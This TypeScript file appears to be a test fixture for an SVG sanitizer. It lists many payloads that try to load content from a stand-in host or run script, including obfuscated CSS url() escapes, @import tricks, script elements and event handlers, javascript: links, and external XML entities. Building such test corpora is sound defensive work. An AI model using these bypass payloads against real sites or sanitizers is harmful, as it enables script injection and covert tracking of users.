/** Drawings that would load something from another host or run a script, by what they try. */
const host = 'http://foreign.example';
const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"${attributes}>${content}</svg>`;
const rect = (attributes: string) => svg(`<rect width="50" height="50" ${attributes}/>`);
const sheet = (css: string, content = '<rect class="a" width="50" height="50"/><text class="a" y="50">a</text>') =>
  svg(`<style>${css}</style>${content}`);
const run = "fetch('http://foreign.example/run');document.title='run'";

/** Ways to write an address of another host as a value of CSS. */
const values: Readonly<Record<string, string>> = {
  plain: `url(${host}/a.svg#a)`,
  quoted: `url('${host}/a.svg#a')`,
  'escaped letter': `u\\72l(${host}/a.svg#a)`,
  'escaped letter with a space': `u\\72 l(${host}/a.svg#a)`,
  'escaped first letter': `\\75rl(${host}/a.svg#a)`,
  'six digits': `\\000075\\000072\\00006c(${host}/a.svg#a)`,
  'escaped letter by itself': `ur\\l(${host}/a.svg#a)`,
  'escaped address': 'url(\\68ttp://foreign.example/a.svg#a)',
  'escaped quotation': `url("\\68 ttp://foreign.example/a.svg#a")`,
  capitals: `URL(${host}/a.svg#a)`,
  'white space': `url( \n\t ${host}/a.svg#a \n)`,
  'comment before': `/* url(#a) */ url(${host}/a.svg#a)`,
  'comment inside': `url(/**/${host}/a.svg#a)`,
  fallback: `url(#none) url(${host}/a.svg#a)`,
  'without an end': `url(${host}/a.svg#a`,
  'without a scheme': 'url(//foreign.example/a.svg#a)',
  'backslashes for slashes': 'url(http:\\\\\\\\foreign.example\\\\a.svg#a)',
  'image-set': `image-set('${host}/a.png' 1x)`,
  '-webkit-image-set': `-webkit-image-set(url(${host}/a.png) 1x)`,
  'image-set escaped': `image\\-set('${host}/a.png' 1x)`,
  src: `src('${host}/a.svg#a')`,
  image: `image('${host}/a.png')`,
  'cross-fade': `-webkit-cross-fade(url(${host}/a.png), url(${host}/b.png), 50%)`,
  'fallback of a variable': `var(--none, url(${host}/a.svg#a))`,
  entities: `&#117;rl(${host}/a.svg#a)`,
  'entities in the address': 'url(&#x68;ttp://foreign.example/a.svg#a)',
  'an escaped end of line': `u\\\nrl(${host}/a.svg#a)`,
};

/** Properties that may load. */
const properties = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor'];
const onlyStyle = [
  'background',
  'background-image',
  'border-image',
  'mask-image',
  '-webkit-mask-image',
  'list-style-image',
  'content',
  'shape-outside',
  'offset-path',
  '--a',
];

const inCss = Object.entries(values).flatMap(([way, value]): [string, string][] => {
  const quoted = value.replaceAll('"', '&quot;');
  return [
    [`attribute, ${way}`, svg(properties.map((name) => `<rect width="9" height="9" ${name}="${quoted}"/>`).join(''))],
    [
      `style, ${way}`,
      svg(
        [...properties, ...onlyStyle].map((name) => `<rect width="9" height="9" style="${name}:${quoted}"/>`).join(''),
      ),
    ],
    [`sheet, ${way}`, sheet([...properties, ...onlyStyle].map((name) => `.a{${name}:${value}}`).join('\n'))],
    [`sheet in CDATA, ${way}`, sheet(`<![CDATA[svg{background:${value.replaceAll('&#', '&amp;#')}}]]>`)],
  ];
});

/** Ways to import a sheet. */
const imports = [
  `@import "${host}/a.css";`,
  `@import url(${host}/a.css);`,
  `@\\69mport "${host}/a.css";`,
  `@\\000069 mport '${host}/a.css';`,
  `@IMPORT '${host}/a.css' screen;`,
  `/* */@import/**/"${host}/a.css";`,
  `@charset "utf-8";@import "${host}/a.css";`,
  `&lt;!--@import "${host}/a.css";--&gt;`,
  `@layer a;@import "${host}/a.css" layer(a);`,
  `@font-face{font-family:b;src:url(${host}/a.woff2)}.a{font-family:b}`,
  `@font-face{font-family:b;src:u\\72l(${host}/a.woff2)}.a{font-family:b}`,
  `@namespace url(${host}/);`,
  `@media all{.a{fill:url(${host}/a.svg#a)}}`,
  `@supports (fill:red){.a{background:url(${host}/a.png)}}`,
  `@keyframes k{from{background:url(${host}/a.png)}to{background:url(${host}/b.png)}}svg{animation:k 1s}`,
  `svg{--u:url(${host}/a.png);background:var(--u)}`,
  `svg{--u:u\\72l(${host}/a.png);background:var(--u)}`,
  `@property --u{syntax:'<url>';inherits:true;initial-value:url(${host}/a.png)}svg{background:var(--u)}`,
  `svg{&amp;{background:url(${host}/a.png)}}`,
  `svg{@media all{background:url(${host}/a.png)}}`,
  `}svg{background:url(${host}/a.png)}`,
  `a{b:(}svg{background:url(${host}/a.png)}`,
  `a{content:"\n}svg{background:url(${host}/a.png)}`,
  `svg{background:red;;background:url(${host}/a.png)!important}`,
  `@scope{svg{background:url(${host}/a.png)}}`,
  `@view-transition{navigation:auto}svg{background:url(${host}/a.png)}`,
];

/** Ways to put a rule into another, or what is none into its place. */
const nested = [
  (rule: string) => `svg{*${rule}}`,
  (rule: string) => `svg{rect${rule}}`,
  (rule: string) => `svg{.a${rule}}`,
  (rule: string) => `svg{#a,.a,[class]${rule}}`,
  (rule: string) => `svg{:is(rect,text)${rule}}`,
  (rule: string) => `svg{rect:not(b)${rule}}`,
  (rule: string) => `svg{>rect${rule}}`,
  (rule: string) => `svg{+a,rect${rule}}`,
  (rule: string) => `svg{&amp; rect${rule}}`,
  (rule: string) => `svg{fill:red;.a${rule}stroke:red}`,
  (rule: string) => `svg{fill:red;;.a${rule};}`,
  (rule: string) => `svg{/**/.a/**/${rule}}`,
  (rule: string) => `svg{&amp;{.a${rule}}}`,
  (rule: string) => `svg{@media all{.a${rule}}}`,
  (rule: string) => `svg{@media all{fill:red;.a${rule}}}`,
  (rule: string) => `@media all{svg{.a${rule}}}`,
  (rule: string) => `@layer b{svg{rect{&amp;${rule}}}}`,
  (rule: string) => `@supports (fill:red){svg{.a${rule}}}`,
  (rule: string) => `@scope (svg){:scope{.a${rule}}}`,
  (rule: string) => `@container (width>0){svg{.a${rule}}}`,
  (rule: string) => `svg{.a{rect,&amp;${rule}}}`,
  (rule: string) => `svg{\\2e a,.a${rule}}`,
  (rule: string) => `svg{.a${rule}`,
  (rule: string) => `@media print{ foo } svg{.a${rule}}`,
  (rule: string) => `@media all{ foo url(${host}/a.png) } svg ${rule}`,
].flatMap((around) =>
  [`{background:url(${host}/a.png)}`, `{fill:url(${host}/a.svg#a);mask:url(${host}/a.svg#a)}`].map(around),
);

/** Elements and attributes that load or run. */
const elements: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script in CDATA': `<script><![CDATA[${run}]]></script>`,
  'script by address': `<script href="${host}/a.js"/><script xlink:href="${host}/a.js"/>`,
  'script of a prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`,
  'script of HTML': `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  'script by the default namespace': `<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  'an element of HTML by its namespace': `<g xmlns="http://www.w3.org/1999/xhtml"><img src="${host}/a.png" onerror="${run}"/></g>`,
  'style of HTML by its namespace': `<style xmlns="http://www.w3.org/1999/xhtml">@import "${host}/a.css";</style>`,
  image: `<image href="${host}/a.png" width="9" height="9"/><image xlink:href="${host}/a.png" width="9" height="9"/>`,
  'image with spaces': `<image href=" \n${host}/a.png" width="9" height="9"/>`,
  'image of a scheme alone': '<image href="//foreign.example/a.png" width="9" height="9"/>',
  'image by an own prefix': `<image xmlns:l="http://www.w3.org/1999/xlink" l:href="${host}/a.png" width="9" height="9"/>`,
  'image of SVG as data': `<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${host}/a.png'/%3E%3C/svg%3E"/>`,
  use: `<use href="${host}/a.svg#a"/><use xlink:href="${host}/a.svg#a"/>`,
  'use of data': `<use href="data:image/svg+xml,%3Csvg id='a' xmlns='http://www.w3.org/2000/svg' onload='${encodeURIComponent(run)}'/%3E#a"/>`,
  feImage: `<filter id="f"><feImage href="${host}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  gradient: `<linearGradient id="g" href="${host}/a.svg#g"/><rect width="9" height="9" fill="url(#g)"/>`,
  pattern: `<pattern id="p" href="${host}/a.svg#p"/><rect width="9" height="9" fill="url(#p)"/>`,
  textPath: `<text><textPath href="${host}/a.svg#p">a</textPath></text>`,
  mpath: `<path d="M0 0"><animateMotion dur="1s"><mpath href="${host}/a.svg#p"/></animateMotion></path>`,
  foreignObject: `<foreignObject width="99" height="99"><img xmlns="http://www.w3.org/1999/xhtml" src="${host}/a.png"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/"/></foreignObject>`,
  'media of HTML': `<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="${host}/a.mp4" poster="${host}/a.png" autoplay="autoplay"/><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${host}/a.css"/>`,
  'video of SVG': `<video href="${host}/a.mp4"/><audio href="${host}/a.mp3"/><iframe href="${host}/"/>`,
  'animated address': `<image width="9" height="9"><animate attributeName="href" values="${host}/a.png;${host}/b.png" dur="1s"/></image>`,
  'set address': `<image width="9" height="9"><set attributeName="href" to="${host}/a.png"/></image><use><set attributeName="xlink:href" to="${host}/a.svg#a"/></use>`,
  'animated paint': `<rect width="9" height="9"><animate attributeName="fill" to="url(${host}/a.svg#a)" dur="1s"/><set attributeName="filter" to="url(${host}/a.svg#a)"/></rect>`,
  'handler of an animation': `<animate onbegin="${run}" attributeName="x" dur="1s"/>`,
  'handler of a shape': `<rect width="99" height="99" onfocus="${run}" tabindex="0" autofocus="autofocus"/>`,
  'handler in capitals': `<rect width="99" height="99" ONLOAD="${run}" OnLoad="${run}"/>`,
  'handler of an image': `<image href="data:image/png;base64,AAAA" onerror="${run}"/><image href="x" onerror="${run}"/>`,
  'link that runs': `<a href="javascript:${run}"><rect width="99" height="99"/></a>`,
  'link that is followed': `<a href="#b" ping="${host}/ping"><rect width="99" height="99"/></a>`,
  handler: `<handler xmlns="http://www.w3.org/2001/xml-events" event="load">${run}</handler>`,
  'colour profile': `<color-profile name="c" xlink:href="${host}/a.icc"/><rect width="9" height="9" fill="#fff icc-color(c, 1)"/>`,
  'font of SVG': `<font-face font-family="b"><font-face-src><font-face-uri xlink:href="${host}/a.svg"/></font-face-src></font-face><text font-family="b">a</text>`,
  'cursor of SVG': `<cursor id="c" xlink:href="${host}/a.png"/><rect width="9" height="9" cursor="url(#c)"/>`,
  'hidden in a title': `<title><script>${run}</script></title><desc><img xmlns="http://www.w3.org/1999/xhtml" src="${host}/a.png"/></desc>`,
  'hidden in metadata': `<metadata><script>${run}</script></metadata>`,
  'end of CDATA': `<style><![CDATA[a{}]]]]><![CDATA[>]]></style><text><![CDATA[]]>]]&gt;<script>${run}</script></text>`,
  'text that looks like a tag': `<text>&lt;script&gt;${run}&lt;/script&gt;</text>`,
  'style that closes itself': `<style>a{}&lt;/style&gt;&lt;script&gt;${run}&lt;/script&gt;</style>`,
};

/** What stands around the drawing. */
const around: Readonly<Record<string, string>> = {
  'sheet by instruction': `<?xml-stylesheet href="${host}/a.css" type="text/css"?>${svg('')}`,
  'sheet of XSLT': `<?xml-stylesheet href="${host}/a.xsl" type="text/xsl"?>${svg('')}`,
  'instruction inside': svg(`<?xml-stylesheet href="${host}/a.css"?><g/>`),
  'DOCTYPE of another host': `<!DOCTYPE svg SYSTEM "${host}/a.dtd">${svg('')}`,
  'entity of another host': `<!DOCTYPE svg [<!ENTITY a SYSTEM "${host}/a.txt">]>${svg('<text>&a;</text>')}`,
  'entity that is markup': `<!DOCTYPE svg [<!ENTITY a "<image href='${host}/a.png'/>">]>${svg('&a;')}`,
  'entity that is a script': `<!DOCTYPE svg [<!ENTITY a "<script>document.title='run'</script>">]>${svg('&a;')}`,
  'entity that is an address': `<!DOCTYPE svg [<!ENTITY a "${host}/a.svg">]>${rect('fill="url(&a;#a)"')}`,
  'entity that is a function': `<!DOCTYPE svg [<!ENTITY a "url(">]>${rect(`fill="&a;${host}/a.svg#a)"`)}`,
  'base of an address': svg('<image href="#a" width="9" height="9"/><use href="#a"/>', ` xml:base="${host}/a.svg"`),
  'base of a shape': svg(`<g xml:base="${host}/a.svg"><use href="#a"/><rect width="9" height="9" fill="url(#a)"/></g>`),
  'handlers of the root': svg('', ` onload="${run}" onresize="${run}" onunload="${run}"`),
  'animation of the root': svg(`<set attributeName="onload" to="${run}"/>`),
  'prefix that is given twice': svg(
    '<x:image xmlns:x="http://www.w3.org/2000/svg" href="http://foreign.example/a.png"/>',
  ),
  'byte order mark': `\uFEFF${svg(`<image href="${host}/a.png"/>`)}`,
  'comment before the root': `<!-- --><!-- <svg> -->${svg(`<script>${run}</script>`)}`,
  'two roots': `${svg('')}${svg(`<script>${run}</script>`)}`,
  'an attribute given twice': svg(`<image href="#a" href="${host}/a.png"/>`),
  'rules in a style attribute': svg(
    `<g style="fill:red;rect{fill:url(${host}/a.svg#a)}&amp;{mask:url(${host}/a.svg#a)}foo url(${host}/a.png)"><rect width="9" height="9"/></g>`,
  ),
  'style attribute with a colon': rect(`style="fill:red;background:url(&quot;${host}/a.png&quot;);;:x"`),
};

/** Every payload by what it tries. */
export const payloads: readonly (readonly [name: string, drawing: string])[] = [
  ...inCss,
  ...[...imports, ...nested].map((css): [string, string] => [`sheet ${css}`, sheet(css)]),
  ...Object.entries(elements).map(([name, content]): [string, string] => [name, svg(content)]),
  ...Object.entries(around),
];
